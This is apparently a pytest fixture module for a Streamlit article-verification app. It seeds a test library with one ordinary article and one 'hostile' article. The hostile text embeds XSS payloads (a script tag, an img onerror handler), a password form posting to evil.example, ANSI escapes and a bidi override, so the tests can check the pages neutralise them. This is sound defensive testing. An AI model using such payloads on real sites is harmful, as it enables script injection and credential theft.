"""The pages of the web desk, run as Streamlit runs them, over made-up articles."""

from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest

from verify.shipped import shipped
from verify.verifier import Verifier

PILOTS = """The ferry pilots of Lower Harbour turned the offer down on Monday.
Six of the 24 crews rejected the offer, the harbour board said. Turnout was 81 percent.
"We will sail when the rota is fair," said Ida Holm, who speaks for the pilots.
"""
HOSTILE = """The toll bridge opened in May <script>alert(1)</script> with nine lanes.
<form action="https://evil.example"><input name="password"></form> The toll is 7 dollars.
The bridge <img src=x onerror=alert(2)> has [red]nine lanes[/red] \x1b[31mand\x1b[0m \u202ea toll.
"""


@pytest.fixture(scope="module")
def library(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A library of two articles, one of them hostile."""
    folder = tmp_path_factory.mktemp("shelf")
    (folder / "pilots.txt").write_text(PILOTS, encoding="utf-8")
    (folder / "bridge.txt").write_text(HOSTILE, encoding="utf-8")
    with Verifier.open(folder / "library") as desk:
        assert not desk.add(folder / "pilots.txt", folder / "bridge.txt").failed
    return folder / "library"


@pytest.fixture
def page(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[..., AppTest]:
    """A page over a library, run from a folder that is not ours; its query by name."""
    monkeypatch.chdir(tmp_path)

    def over(store: Path, name: str = "ask", **query: str) -> AppTest:
        monkeypatch.setenv("VERIFY_STORE", str(store))
        at = AppTest.from_file(shipped("streamlit_app.py"), default_timeout=60).run()
        if name == "ask":
            return at
        at.switch_page(f"verify/web/pages/{name}.py")
        at.query_params.update(query)
        return at.run()

    return over


@pytest.fixture
def shown() -> Callable[[AppTest], str]:
    """All HTML of a page but its style; fails where the page ended with an exception."""

    def html_of(at: AppTest) -> str:
        assert not at.exception
        return "".join(html.value for html in at.html if not html.value.startswith("<style>"))

    return html_of


@pytest.fixture(scope="module", autouse=True)
def _closed_at_the_end() -> Iterator[None]:
    yield
    st.cache_data.clear()
    st.cache_resource.clear()
